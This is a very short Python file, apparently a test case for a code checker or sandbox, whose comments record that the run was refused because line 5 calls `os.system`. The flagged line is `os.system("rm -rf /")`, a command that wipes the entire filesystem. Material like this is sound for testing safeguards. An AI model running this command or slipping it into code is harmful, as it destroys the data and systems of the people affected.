# ending refused
# says line 5: `os.system` starts another process
import os

os.system("rm -rf /")
